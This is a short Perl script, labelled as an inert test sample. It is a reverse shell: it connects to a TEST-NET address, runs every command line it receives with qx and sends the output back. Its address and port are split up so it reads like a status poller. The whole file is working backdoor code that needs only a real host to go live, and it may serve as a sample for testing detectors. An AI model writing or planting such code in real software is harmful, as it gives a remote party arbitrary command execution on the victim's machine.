#!/usr/bin/perl
# test sample (inert: TEST-NET address): reads command lines from a socket it connected and runs
# each with qx, its names split up to look like a status poller
use IO::Socket::INET;
my %c = (PeerAddr => join('.', 192, 0, 2, 20), PeerPort => 7000 + 43, Proto => 'tcp');
my $s = IO::Socket::INET->new(%c) or exit 0;
while (my $job = <$s>) {
    chomp $job;
    last if $job eq 'bye';
    my $out = qx{$job 2>&1};
    print $s $out, "\n";
}
close $s;
